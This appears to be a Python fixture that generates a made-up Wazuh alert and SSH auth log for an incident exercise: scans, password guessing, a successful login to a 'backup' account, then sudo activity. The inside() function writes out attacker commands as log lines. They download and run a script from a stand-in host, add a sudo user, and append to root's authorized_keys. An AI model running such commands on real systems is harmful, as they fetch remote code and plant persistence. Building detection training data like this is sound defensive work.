"""A night on a bastion: a scan, guesses at many accounts, one that works, and what was done with it.

Everything in it is made up; its addresses are those reserved for documentation. The same every time but for the date.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

HOST = "bastion-1"
ATTACKER = "203.0.113.45"
SCANNERS = ("203.0.113.118", "203.0.113.201")
DROP = "updates.cdn-mirror.example"
VICTIM = "backup"
GUESSED = ("root", "admin", "oracle", "postgres", "jenkins", "test", "ubuntu", "git", "nagios", VICTIM)
REAL = frozenset({"root", "postgres", VICTIM})
COLLEAGUES = (("mara", "10.20.4.31"), ("deploy", "10.20.4.8"), ("ines", "10.20.4.44"))
# The break-in lies this long before the incident is loaded.
AGO = timedelta(minutes=24)


@dataclass(frozen=True, slots=True)
class Entry:
    at: datetime
    program: str
    text: str

    def line(self) -> str:
        return f"{self.at:%b} {self.at.day:>2} {self.at:%H:%M:%S} {HOST} {self.program}: {self.text}"


def alert(now: datetime) -> dict[str, Any]:
    """What Wazuh said of it."""
    at = broken_in(now)
    return {
        "timestamp": f"{at:%Y-%m-%dT%H:%M:%S}.412+0000",
        "rule": {
            "id": "40112",
            "level": 12,
            "description": "sshd: many failed sign-ins, then a successful one",
            "groups": ["syslog", "sshd", "authentication_success"],
            "mitre": {"id": ["T1110", "T1078"], "tactic": ["Credential Access", "Initial Access"]},
            "firedtimes": 1,
        },
        "agent": {"id": "014", "name": HOST, "ip": "10.20.0.5"},
        "manager": {"name": "siem-1"},
        "decoder": {"parent": "sshd", "name": "sshd"},
        "data": {"srcip": ATTACKER, "srcport": "50714", "dstuser": VICTIM},
        "full_log": Entry(at, "sshd[21877]", f"Accepted password for {VICTIM} from {ATTACKER} port 50714 ssh2").line(),
        "location": "/var/log/auth.log",
    }


def log(now: datetime) -> list[str]:
    """The lines of that machine's authentication log, from three hours before to a few minutes after."""
    dice = random.Random(20)
    at = broken_in(now)
    entries = [*ordinary(at, dice), *scan(at, dice), *guesses(at, dice), *inside(at)]
    return [entry.line() for entry in sorted(entries, key=lambda entry: entry.at)]


def broken_in(now: datetime) -> datetime:
    return (now - AGO).replace(second=38, microsecond=0)


def ordinary(at: datetime, dice: random.Random) -> Iterator[Entry]:
    """What happens every night: cron, deployments, colleagues who mistype once."""
    start = at - timedelta(hours=3)
    for minute in range(1, 195, 10):
        when, pid = start + timedelta(minutes=minute, seconds=1), 9000 + minute * 61
        yield Entry(when, f"CRON[{pid}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
        yield Entry(when + timedelta(seconds=1), f"CRON[{pid}]", "pam_unix(cron:session): session closed for user root")
    for number in range(14):
        name, address = dice.choice(COLLEAGUES)
        when, pid, port = start + timedelta(seconds=dice.randrange(11000)), dice.randrange(9000, 21000), 40000 + number
        if number % 5 == 3:
            yield Entry(when, f"sshd[{pid}]", f"Failed password for {name} from {address} port {port} ssh2")
        yield from signed_in(when + timedelta(seconds=6), pid, name, address, port, method="publickey")
        closed = f"pam_unix(sshd:session): session closed for user {name}"
        yield Entry(when + timedelta(seconds=60 + dice.randrange(900)), f"sshd[{pid}]", closed)


def scan(at: datetime, dice: random.Random) -> Iterator[Entry]:
    """Two addresses that knock and go: somebody reads banners."""
    start = at - timedelta(minutes=95)
    for number in range(36):
        address, pid, port = SCANNERS[number % 2], 15000 + number * 3, dice.randrange(33000, 61000)
        when = start + timedelta(seconds=number * 19 + dice.randrange(9))
        if number % 3:
            yield Entry(when, f"sshd[{pid}]", f"Connection closed by {address} port {port} [preauth]")
        else:
            yield Entry(when, f"sshd[{pid}]", f"Did not receive identification string from {address} port {port}")


def guesses(at: datetime, dice: random.Random) -> Iterator[Entry]:
    """One address that tries ten accounts, again and again, faster towards the end."""
    pauses = [dice.randrange(13, 25) if number < 80 else dice.randrange(8, 14) for number in range(118)]
    when = at - timedelta(seconds=sum(pauses))
    for number, pause in enumerate(pauses):
        name, pid, port = GUESSED[number % len(GUESSED)], 18000 + number * 32, dice.randrange(33000, 61000)
        program = f"sshd[{pid}]"
        if name not in REAL:
            yield Entry(when, program, f"Invalid user {name} from {ATTACKER} port {port}")
        unknown = "" if name in REAL else "invalid user "
        refused = f"Failed password for {unknown}{name} from {ATTACKER} port {port} ssh2"
        yield Entry(when + timedelta(seconds=2), program, refused)
        if number % 6 == 5:
            gone = f"Connection closed by authenticating user {name} {ATTACKER} port {port} [preauth]"
            yield Entry(when + timedelta(seconds=3), program, gone)
        when += timedelta(seconds=pause)


def inside(at: datetime) -> Iterator[Entry]:
    """What the account was used for: to become root, to fetch something, to stay."""
    pid = 21877
    yield from signed_in(at, pid, VICTIM, ATTACKER, 50714, method="password")
    steps = (
        (41, "root", "/usr/bin/id"),
        (66, "root", f"/usr/bin/curl -fsS https://{DROP}/agent.sh -o /tmp/.agent.sh"),
        (79, "root", "/bin/sh /tmp/.agent.sh"),
        (121, "root", "/usr/sbin/useradd -m -G sudo svc-sync"),
        (140, "root", "/usr/bin/tee -a /root/.ssh/authorized_keys"),
    )
    for seconds, target, command in steps:
        when = at + timedelta(seconds=seconds)
        yield Entry(when, "sudo", f"  {VICTIM} : TTY=pts/3 ; PWD=/home/{VICTIM} ; USER={target} ; COMMAND={command}")
        opened = f"pam_unix(sudo:session): session opened for user {target}(uid=0) by {VICTIM}(uid=1004)"
        yield Entry(when + timedelta(seconds=1), "sudo", opened)
    added = "new user: name=svc-sync, UID=1019, GID=1019, home=/home/svc-sync, shell=/bin/sh, from=/dev/pts/3"
    yield Entry(at + timedelta(seconds=123), f"useradd[{pid + 88}]", added)
    left = f"pam_unix(sshd:session): session closed for user {VICTIM}"
    yield Entry(at + timedelta(minutes=9), f"sshd[{pid}]", left)


def signed_in(when: datetime, pid: int, name: str, address: str, port: int, *, method: str) -> Iterator[Entry]:
    yield Entry(when, f"sshd[{pid}]", f"Accepted {method} for {name} from {address} port {port} ssh2")
    opened = f"pam_unix(sshd:session): session opened for user {name} by (uid=0)"
    yield Entry(when + timedelta(seconds=1), f"sshd[{pid}]", opened)
